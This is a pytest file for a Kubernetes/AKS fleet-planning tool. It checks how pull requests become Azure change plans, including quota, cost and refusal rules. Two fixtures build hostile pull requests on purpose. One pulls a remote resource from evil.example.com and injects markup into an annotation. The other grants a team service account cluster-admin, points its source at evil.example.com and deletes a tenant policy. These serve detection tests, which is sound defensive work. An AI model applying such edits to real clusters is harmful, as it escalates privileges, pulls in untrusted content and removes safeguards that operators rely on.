"""Pull requests that say what Azure will do: one comment each, readable in tests/fleet/plans."""

from __future__ import annotations

import shutil

import pytest

from external.command import ExternalError
from fleet.plan import text
from fleet.plan.plan import make
from fleet.plan.rules import Effect
from fleet.plan.sentences import sentences
from tests.fleet.comments import NOW, Edit, compare, plan, rules
from tests.fleet.pull_requests import Repository, git


def _upgrade(fleet: Repository, *environments: str) -> None:
    for name in environments:
        fleet.edit(f"environments/{name}/release.yaml", ("v1.36.3", "v1.37.1"))


def _new_class(fleet: Repository) -> None:
    text = (fleet.path / "classes/aks-v1.yaml").read_text()
    text = text.replace("name: aks-v1", "name: aks-v2")
    text = text.replace(
        "disableLocalAccounts: true",
        "disableLocalAccounts: true\n                autoUpgradeProfile: {nodeOSUpgradeChannel: NodeImage}",
    )
    shutil.copytree(fleet.path / "classes/aks-aso-v1", fleet.path / "classes/aks-aso-v2")
    (fleet.path / "classes/aks-v2.yaml").write_text(text)
    fleet.edit("classes/kustomization.yaml", ("- aks-v1.yaml", "- aks-v1.yaml\n- aks-v2.yaml"))
    fleet.edit("environments/dev/release.yaml", ("class_version: v1", "class_version: v2"))


def _autoscaled(fleet: Repository, pool: str, least: int, most: int) -> None:
    fleet.add_pool("shop", pool, 1)
    scale = f"variables: {{overrides: [{{name: autoscale, value: {{min: {least}, max: {most}}}}}]}}"
    fleet.cluster("shop", (f"name: {pool}, replicas: 1", f"name: {pool}, {scale}"))


def _larger(fleet: Repository) -> None:
    fleet.cluster(
        "shop", ("replicas: 1}", "replicas: 1, variables: {overrides: [{name: vmSize, value: Standard_D8s_v5}]}}")
    )


def _malicious(fleet: Repository) -> None:
    fleet.cluster("shop", ("replicas: 1", "replicas: 500"))
    evil = fleet.request("evil")
    (evil / "kustomization.yaml").write_text("resources: [cluster.yaml, https://evil.example.com/everything.yaml]\n")
    fleet.cluster(
        "search",
        (
            "name: search\n",
            "name: search\n  annotations: {slipway.dev/deletion-approved-by: '@everyone <!-- | **merge me**'}\n",
        ),
    )


ONE_CHANGE: dict[str, tuple[Edit, list[str]]] = {
    "add-a-cluster": (lambda fleet: fleet.request("blog"), []),
    "scale": (lambda fleet: fleet.cluster("shop", ("replicas: 1", "replicas: 3")), []),
    "add-a-pool-that-scales-by-itself": (lambda fleet: _autoscaled(fleet, "apps", 2, 5), []),
    "add-a-pool": (lambda fleet: fleet.add_pool("shop", "apps", 3), []),
    "upgrade-a-wave": (lambda fleet: _upgrade(fleet, "dev"), []),
    "upgrade-two-environments": (lambda fleet: _upgrade(fleet, "dev", "staging"), ["one-environment-at-a-time"]),
    "downgrade": (
        lambda fleet: fleet.edit("environments/dev/release.yaml", ("v1.36.3", "v1.35.0")),
        ["downgrade"],
    ),
    "skip-a-version": (
        lambda fleet: fleet.edit("environments/dev/release.yaml", ("v1.36.3", "v1.38.0")),
        ["skipped-version"],
    ),
    "change-the-class-version": (_new_class, []),
    "edit-a-class-in-use": (
        lambda fleet: fleet.edit("classes/aks-v1.yaml", ("enableAzureRBAC: true", "enableAzureRBAC: false")),
        ["class-edited"],
    ),
    "larger-nodes": (_larger, ["immutable"]),
    "move-a-region": (
        lambda fleet: fleet.cluster("shop", ("name: shop\n", "name: shop\n  labels: {region: westeurope}\n")),
        ["immutable"],
    ),
    "approve-a-deletion": (lambda fleet: fleet.approve("shop"), []),
    "delete-without-approval": (
        lambda fleet: git(fleet.path, "rm", "-r", "--quiet", str(fleet.directory("shop"))),
        ["deletion-not-approved"],
    ),
    "new-agent": (
        lambda fleet: fleet.edit("environments/production/release.yaml", ("v2.9.5", "v2.10.0")),
        [],
    ),
    "malicious": (_malicious, ["does-not-render"]),
}


@pytest.mark.parametrize("name", ONE_CHANGE)
def test_a_pull_request_says(name: str, repository: Repository) -> None:
    edit, refused = ONE_CHANGE[name]
    made = plan(repository, edit)
    assert sorted(set(rules(made))) == refused
    compare(name, made)


def test_limits_quotas_and_prices_of_the_repository_count(repository: Repository) -> None:
    repository.edit(
        "environments/dev/settings.yaml",
        ("tier: Free", 'tier: Free\n  max_clusters: "2"\n  core_quota_northeurope: "8"'),
    )
    (repository.path / "prices.yaml").write_text("currency: EUR\nnodes: {Standard_D2s_v5: 70}\ntiers: {Standard: 66}\n")

    def grow(fleet: Repository) -> None:
        fleet.request("blog")
        fleet.cluster("shop", ("replicas: 1", "replicas: 4"))

    made = plan(repository, grow)
    assert rules(made) == ["too-many-clusters", "quota"]
    assert text.as_json(made)["month"] == 4 * 70
    compare("beyond-the-limits", made)


def test_what_main_did_meanwhile_is_not_of_the_pull_request(repository: Repository) -> None:
    repository.branch()
    repository.cluster("shop", ("replicas: 1", "replicas: 3"))
    repository.commit("Scale")
    git(repository.path, "switch", "--quiet", "main")
    repository.request("blog")
    repository.commit("Somebody else's")
    made = make(repository.path, "main", "change", NOW)
    assert [(each.cluster.name, each.nodes) for each in made.changes] == [("shop", 2)]


def test_branches_in_conflict_are_told(repository: Repository) -> None:
    repository.branch()
    repository.cluster("shop", ("replicas: 1", "replicas: 3"))
    repository.commit("Scale")
    git(repository.path, "switch", "--quiet", "main")
    repository.cluster("shop", ("replicas: 1", "replicas: 2"))
    repository.commit("Somebody else's")
    with pytest.raises(ExternalError, match="change does not merge into main without conflicts: rebase it first"):
        make(repository.path, "main", "change", NOW)


def test_nothing_changed_is_nothing_planned(repository: Repository) -> None:
    made = plan(repository, lambda fleet: (fleet.path / "note.md").write_text("hello"))
    assert (made.changes, made.others, made.refusals) == ((), (), ())


def test_the_writes_of_a_scaling_are_one_request(repository: Repository) -> None:
    made = plan(repository, lambda fleet: fleet.cluster("shop", ("replicas: 1", "replicas: 3")))
    assert text.as_json(made)["clusters"][0]["writes"] == [
        {"method": "PUT", "path": "managedClusters/shop/agentPools/system", "sets": {"count": 3}}
    ]


def test_azure_scales_a_pool_from_now_on(repository: Repository) -> None:
    repository.add_pool("shop", "apps", 3)
    scale = "variables: {overrides: [{name: autoscale, value: {min: 2, max: 5}}]}"
    made = plan(repository, lambda fleet: fleet.cluster("shop", ("name: apps, replicas: 3", f"name: apps, {scale}")))
    (change,) = made.changes
    assert (list(sentences(change)), change.nodes, change.effect) == (
        ["pool apps 3 → 2 to 5 nodes"],
        2,
        Effect.IN_PLACE,
    )


def test_a_pool_that_scales_by_itself_counts_with_all_that_it_may_have(repository: Repository) -> None:
    repository.edit("environments/dev/settings.yaml", ("tier: Free", 'tier: Free\n  core_quota_northeurope: "12"'))
    _autoscaled(repository, "apps", 1, 4)
    made = plan(repository, lambda fleet: fleet.cluster("shop", ("max: 4", "max: 5")))
    (change,) = made.changes
    assert (list(sentences(change)), change.nodes, change.cores) == (["pool apps 1 to 4 → 1 to 5 nodes"], 1, 2)
    assert rules(made) == ["quota"]


def test_fewer_nodes_at_most_may_cost_some_that_run(repository: Repository) -> None:
    _autoscaled(repository, "apps", 1, 4)
    made = plan(repository, lambda fleet: fleet.cluster("shop", ("max: 4", "max: 2")))
    assert made.changes[0].effect is Effect.DISRUPTIVE


def test_pools_inside_of_a_managed_cluster_are_pools(repository: Repository) -> None:
    repository.request("direct", example="straight")
    repository.branch()
    repository.cluster("direct", ("count: 1", "count: 2"))
    repository.commit("Scale")
    made = plan(repository)
    assert [(each.cluster.name, each.nodes) for each in made.changes] == [("direct", 1)]
    writes = text.as_json(made)["clusters"][0]["writes"]
    assert writes == [{"method": "PUT", "path": "managedClusters/direct", "sets": {"system.count": 2}}]


def test_a_teams_quota_is_moved(repository: Repository) -> None:
    repository.team()
    limits = "environments/dev/tenants/shop/limits.yaml"
    made = plan(repository, lambda fleet: fleet.edit(limits, ('clusters: "2"', 'clusters: "4"'), ('"5"', '"8"')))
    assert (made.changes, rules(made)) == ((), [])
    compare("move-a-teams-quota", made)


def test_a_malicious_team_is_seen_with_all_that_it_takes(repository: Repository) -> None:
    repository.team()

    def grab(fleet: Repository) -> None:
        limits = fleet.path / "environments/dev/tenants/shop"
        (limits / "more.yaml").write_text(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: shop}\n"
            "roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
            "subjects: [{kind: ServiceAccount, name: team, namespace: shop-dev}]\n"
        )
        fleet.edit("environments/dev/tenants/shop/kustomization.yaml", ("[limits.yaml]", "[limits.yaml, more.yaml]"))
        fleet.edit(
            "environments/dev/tenants/shop/limits.yaml",
            ('clusters: "2"', 'clusters: "200"'),
            ("git.example.com/shop", "evil.example.com/shop"),
        )
        (fleet.path / "policies/tenant-clusters.yaml").unlink()
        fleet.edit("policies/kustomization.yaml", ("- tenant-clusters.yaml\n", ""))

    made = plan(repository, grab)
    assert any(each.what.startswith("ClusterRoleBinding ") for each in made.others)
    assert any("tenant-clusters" in each.what and each.how.startswith("removed") for each in made.others)
    compare("a-malicious-team", made)
